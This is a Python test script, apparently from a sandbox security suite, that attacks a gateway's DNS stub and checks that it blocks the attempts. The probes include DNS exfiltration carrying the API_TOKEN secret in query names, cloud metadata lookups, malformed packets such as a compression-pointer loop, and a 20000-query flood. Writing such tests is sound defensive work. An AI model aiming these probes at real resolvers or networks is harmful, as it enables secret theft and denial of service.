"""Abuses the gateway's DNS stub (127.0.0.53:53/udp, answered on the gateway's shared event
thread): resolves denied names, the metadata name, IP-literal names, reverse (PTR) names and
data-carrying names (DNS exfiltration: the placeholder and 63-byte labels of hex); asks allowed
names for AAAA, ANY, TXT, MX, SRV, CNAME and class CHAOS records that could point elsewhere;
sends malformed datagrams (a compression-pointer loop, truncation, two questions, a response
bit, a 64-byte label, a 300-byte name, an empty datagram, 1400 bytes of garbage); floods 20000
queries while timing proxy requests (a stub that stalls its thread stalls every sandbox's
accept); and tries DNS over TCP and other resolvers.
Blocked by: the stub answers A for every well-formed name, allowed or not, with 127.0.0.1 only
(the gateway's own listeners, which refuse denied hosts), NXDOMAIN for address literals and
malformed names, no other record type ever; it never forwards a query (a data-carrying name gets
the same synthesized answer as any other), answers malformed input with FORMERR (or not at all)
and bounds its work per wakeup; there is no route to another resolver.
space-attack: sandbox=fresh opts=--secret,API_TOKEN timeout=60
"""
import os
import socket
import struct
import threading
import time

escapes, notes, nx = [], [], []
PH = os.environ.get("API_TOKEN", "space_ph_x")


def encode(name):
    return b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l) + b"\0"


def query(qname_wire, qtype=1, qclass=1, raw=None, server=("127.0.0.53", 53), timeout=3):
    """(rcode, [(type, rdata)]) or None when nothing answered."""
    data = raw if raw is not None else (b"\x42\x42\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" +
                                        qname_wire + struct.pack(">HH", qtype, qclass))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(data, server)
        d = s.recv(4096)
    except OSError:
        return None
    finally:
        s.close()
    rcode, an = d[3] & 15, struct.unpack(">H", d[6:8])[0]
    # Skip the question, then read the answers (names as pointers or labels).
    i = 12
    while i < len(d) and d[i] != 0:
        if d[i] >= 0xc0:
            i += 1
            break
        i += d[i] + 1
    i += 5
    answers = []
    for _ in range(an):
        while i < len(d) and d[i] != 0 and d[i] < 0xc0:
            i += d[i] + 1
        i += 2 if i < len(d) and d[i] >= 0xc0 else 1
        t, _, _, l = struct.unpack(">HHIH", d[i:i + 10])
        answers.append((t, d[i + 10:i + 10 + l]))
        i += 10 + l
    return rcode, answers


def expect_gateway_only(name, wire=None, qtype=1, literal=False):
    """Denied, literal, reverse and data-carrying names: at most the gateway's own address for
    A (NXDOMAIN for address literals), and no record of any other type."""
    r = query(wire or encode(name), qtype)
    if r is None:
        escapes.append("%s (type %d): no answer from the stub" % (name[:60], qtype))
        return
    other = [(t, a) for t, a in r[1] if not (qtype == 1 and t == 1 and a == b"\x7f\0\0\x01")]
    if other or (literal and r[0] != 3):
        escapes.append("%s (type %d) answered %s" % (name[:60], qtype, r))
    else:
        nx.append(name)


for name, literal in [("other.example.test", False), ("metadata.google.internal", False),
                      ("169.254.169.254", True), ("127.0.0.2", True),
                      ("api.example.test.evil.test", False), ("1.0.0.127.in-addr.arpa", False),
                      ("254.169.254.169.in-addr.arpa", False),
                      ("%s.other.example.test" % PH.lower()[:60], False),
                      (".".join(os.urandom(31).hex()[:63] for _ in range(3)) + ".exfil.test",
                       False)]:
    expect_gateway_only(name, literal=literal)
    expect_gateway_only(name, qtype=28, literal=literal)
expect_gateway_only("PTR 1.0.0.127", encode("1.0.0.127.in-addr.arpa"), qtype=12)
# A forwarded query would get a real resolver's answer (NXDOMAIN for a random name): every
# data-carrying name gets exactly the synthesized 127.0.0.1, so nothing left the stub.
for _ in range(3):
    name = os.urandom(20).hex() + ".exfil-" + os.urandom(4).hex() + ".test"
    r = query(encode(name))
    if r != (0, [(1, b"\x7f\0\0\x01")]):
        escapes.append("%s answered %s (not the stub's own 127.0.0.1)" % (name[:40], r))
for name in ["api.example.test", "API.Example.Test", "git.example.test."]:
    r = query(encode(name))
    if r is None or r[0] != 0 or [a for t, a in r[1] if t != 1 or a != b"\x7f\0\0\x01"]:
        escapes.append("%s A answered %s (want only 127.0.0.1)" % (name, r))
    for qtype in (28, 255, 16, 15, 33, 5):
        r = query(encode(name), qtype)
        other = [(t, a) for t, a in (r[1] if r else []) if not (t == 1 and a == b"\x7f\0\0\x01")]
        if other:
            escapes.append("%s type %d answered %s" % (name, qtype, other))
notes.append("%d denied, literal, reverse and data-carrying queries: 127.0.0.1 at most "
             "(literals NXDOMAIN)" % len(nx))
r = query(encode("version.bind"), 16, qclass=3)
if r and r[1]:
    escapes.append("CHAOS version.bind answered %s" % r[1])

HDR = b"\x42\x42\x01\x00"
for what, raw in [("pointer loop", HDR + b"\x00\x01\0\0\0\0\0\0\xc0\x0c\x00\x01\x00\x01"),
                  ("truncated", HDR + b"\x00\x01"),
                  ("two questions", HDR + b"\x00\x02\0\0\0\0\0\0" + encode("other.example.test") +
                   b"\0\x01\0\x01" + encode("api.example.test") + b"\0\x01\0\x01"),
                  ("response bit", b"\x42\x42\x81\x00\x00\x01\0\0\0\0\0\0" +
                   encode("api.example.test") + b"\0\x01\0\x01"),
                  ("64-byte label", HDR + b"\x00\x01\0\0\0\0\0\0\x40" + b"a" * 64 +
                   b"\0\0\x01\0\x01"),
                  ("300-byte name", HDR + b"\x00\x01\0\0\0\0\0\0" + (b"\x09aaaaaaaaa" * 30) +
                   b"\0\0\x01\0\x01"),
                  ("empty", b""), ("garbage", os.urandom(1400))]:
    r = query(None, raw=raw, timeout=1)
    if r and r[0] == 0 and r[1]:
        escapes.append("%s answered %s" % (what, r))
    else:
        notes.append("%s: %s" % (what, "rcode %d" % r[0] if r else "no answer"))

# Flood the stub while timing proxy requests.
stop = threading.Event()


def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q = b"\x42\x42\x01\x00\x00\x01\0\0\0\0\0\0" + encode("other.example.test") + b"\0\x01\0\x01"
    n = 0
    while not stop.is_set() and n < 20000:
        try:
            s.sendto(q, ("127.0.0.53", 53))
        except OSError:
            pass
        n += 1


t = threading.Thread(target=flood)
t.start()
slowest = 0.0
for _ in range(10):
    t0 = time.monotonic()
    c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    c.sendall(b"GET http://plain.example.test/echo HTTP/1.1\r\nHost: plain.example.test\r\n"
              b"Connection: close\r\n\r\n")
    got = c.recv(20)
    c.close()
    slowest = max(slowest, time.monotonic() - t0)
    if not got.startswith(b"HTTP/1.1 200"):
        escapes.append("a proxy request during the DNS flood answered %r" % got)
        break
stop.set()
t.join()
if slowest > 3:
    escapes.append("proxy requests took up to %.1f s during a DNS flood" % slowest)
# The flood may still fill the stub's receive queue (datagrams beyond it are dropped, as on any
# UDP server): ask again the way resolvers do, for a few seconds.
deadline = time.monotonic() + 5
while True:
    r = query(encode("api.example.test"), timeout=0.3)
    if r or time.monotonic() > deadline:
        break
if not r or r[1] != [(1, b"\x7f\0\0\x01")]:
    print("ERROR: after the flood the stub answers %s" % (r,))
    raise SystemExit(2)
notes.append("proxy requests during a 20000-query flood: at most %.2f s" % slowest)

for server in [("127.0.0.1", 53), ("8.8.8.8", 53), ("1.1.1.1", 53)]:
    if query(encode("api.example.test"), server=server, timeout=1) is not None:
        escapes.append("a resolver answered at %s:%d" % server)
tcp = socket.socket()
tcp.settimeout(2)
try:
    tcp.connect(("127.0.0.53", 53))
    escapes.append("DNS over TCP to 127.0.0.53 connected")
except OSError:
    notes.append("no DNS over TCP")
tcp.close()

if escapes:
    print("ESCAPED: " + "; ".join(escapes)[:1500])
    raise SystemExit(1)
print("BLOCKED: " + "; ".join(notes))
